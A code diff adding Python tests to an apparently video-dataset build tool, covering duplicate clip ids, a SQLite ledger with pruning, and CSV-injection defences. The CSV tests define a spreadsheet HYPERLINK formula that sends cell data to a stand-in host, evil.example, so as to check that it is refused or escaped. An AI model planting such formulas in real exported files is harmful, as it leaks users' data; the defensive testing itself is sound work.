@@ -265,3 +265,114 @@ def test_source_metadata_is_not_published(tmp_path: Path, server: FaultyServer, 
         data = json.loads(facts)
         assert not data.get("chapters")
         assert {s["codec_type"] for s in data["streams"]} <= {"video", "audio"}
+
+
+# ----------------------------------------------------------------------------- ledger
+
+
+def test_duplicate_clip_id_keeps_the_first_ok_row_and_both_rows_are_in_the_manifest(
+    tmp_path: Path, server: FaultyServer
+) -> None:
+    make_source(server.root / "v.mp4", 6.0)
+    make_source(server.root / "w.mp4", 6.0, variant=5)
+    csv = sources_csv(
+        tmp_path / "s.csv", [("x", server.url("v.mp4"), 0.5, 2.5, "crash"), ("x", server.url("w.mp4"), 3.0, 5.0, "crash")]
+    )
+    out = tmp_path / "out"
+    for _ in range(2):  # a rerun changes nothing
+        report = run_build([csv], out, FAST)
+        m = manifest(out)
+        assert len(m) == 2, m.keys()
+        assert m["x"]["status"] == "ok" and m["x"]["url"] == server.url("v.mp4") and m["x"]["start"] == 0.5
+        dup = m["invalid:s.csv:3"]
+        assert dup["status"] == "invalid" and dup["url"] == server.url("w.mp4")
+        assert f"duplicate clip_id 'x', first at {csv}:2" in dup["error"]
+        assert report.counts == {"ok": 1, "invalid": 1}
+    assert server.requests["w.mp4"] == 0
+
+
+def test_another_list_into_the_same_out_keeps_rows_and_prune_drops_them(
+    tmp_path: Path, server: FaultyServer
+) -> None:
+    import sqlite3
+    import sys
+
+    make_source(server.root / "a.mp4", 4.0)
+    make_source(server.root / "b.mp4", 4.0, variant=5)
+    list_a = sources_csv(tmp_path / "a.csv", [("a1", server.url("a.mp4"), 0.5, 2.5, "crash")])
+    list_b = sources_csv(tmp_path / "b.csv", [("b1", server.url("b.mp4"), 0.5, 2.5, "crash")])
+    out = tmp_path / "out"
+    run_build([list_a], out, FAST)
+    a_video = out / manifest(out)["a1"]["video_path"]
+    report = run_build([list_b], out, FAST)
+    assert set(manifest(out)) == {"b1"} and report.counts == {"ok": 1}  # the manifest: these lists
+    with sqlite3.connect(out / "ledger.sqlite") as db:  # the ledger: everything
+        assert {r[0] for r in db.execute("SELECT clip_id FROM clips")} == {"a1", "b1"}
+    assert a_video.is_file()
+    # building list A again reuses its row: nothing is fetched
+    server.requests.clear()
+    assert run_build([list_a], out, FAST).processed == 0 and server.requests["a.mp4"] == 0
+    # --prune (CLI): drop a1's row and media, say how many
+    proc = subprocess.run(
+        [sys.executable, "-m", "vaar.cli", "build", str(list_b), "--out", str(out), "--workers", "1",
+         "--allow-private-network", "--prune"], capture_output=True, text=True, check=False,
+    )  # fmt: skip
+    assert "pruned 1 ledger row" in proc.stdout, proc.stdout + proc.stderr
+    with sqlite3.connect(out / "ledger.sqlite") as db:
+        assert {r[0] for r in db.execute("SELECT clip_id FROM clips")} == {"b1"}
+    assert not a_video.exists() and (out / manifest(out)["b1"]["video_path"]).is_file()
+
+
+# ----------------------------------------------------------------------------- CSV injection
+
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1;"click me")'
+
+
+def test_formula_source_id_is_refused_and_notes_never_start_a_formula_in_csv(
+    tmp_path: Path, server: FaultyServer
+) -> None:
+    import csv as csvmod
+
+    rows = []
+    for label in ("crash", "explosion"):
+        for k in range(3):
+            name = f"{label}{k}.mp4"
+            make_source(server.root / name, 4.0, variant=k + (3 if label == "crash" else 7))
+            rows.append((f"{label}-{k}", server.url(name), 0.5, 2.5, label))
+    body = [HEADER]
+    q = '"' + FORMULA.replace('"', '""') + '"'
+    for c, u, s, e, lab in rows:
+        body.append(f"{c},{u},{s},{e},{lab},,CC-BY-4.0,{q}\n")  # notes: a formula
+    body.append(f"evil,{rows[0][1]},0.5,2.5,crash,{q},CC-BY-4.0,\n")  # source_id: a formula
+    csv = tmp_path / "s.csv"
+    csv.write_text("".join(body), encoding="utf-8")
+    out = tmp_path / "out"
+    private = tmp_path / "host" / "labels.csv"
+    from vaar.curation.publish import PublishConfig
+
+    run_build([csv], out, replace(FAST, do_publish=True, publish=PublishConfig(private_test_labels=private)))
+    m = manifest(out)
+    assert m["evil"]["status"] == "invalid" and "unsafe source_id" in m["evil"]["error"]
+    assert m["crash-0"]["status"] == "ok" and m["crash-0"]["notes"] == FORMULA  # kept verbatim in Parquet
+    written = [*out.glob("dataset/splits/*.csv"), private]
+    assert len(written) >= 3
+    for path in written:
+        for line in csvmod.reader(path.read_text(encoding="utf-8").splitlines()):
+            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in line), (path, line)
+
+
+def test_csv_helper_escapes_free_text_but_not_numbers(tmp_path: Path) -> None:
+    from vaar.csvsafe import csv_bytes
+    from vaar.curation.split import SplitItem, render_split_files
+
+    import csv as csvmod
+
+    data = csv_bytes(["a", "b", "c"], [[FORMULA, -0.5, "+1"], ["@x", "plain", "\tcmd"]]).decode()
+    assert list(csvmod.reader(data.splitlines())) == [
+        ["a", "b", "c"], ["'" + FORMULA, "-0.5", "'+1"], ["'@x", "plain", "'\tcmd"],
+    ]  # fmt: skip
+    # a manifest written before source ids were checked: the split files still carry no formula
+    items = [SplitItem(f"c{i}", "crash", FORMULA if i == 0 else None) for i in range(3)]
+    files = render_split_files(items, {it.clip_id: "train" for it in items})
+    text = files["train.csv"].decode()
+    assert "'=HYPERLINK" in text and '\n"=HYPERLINK' not in text and "\n=HYPERLINK" not in text
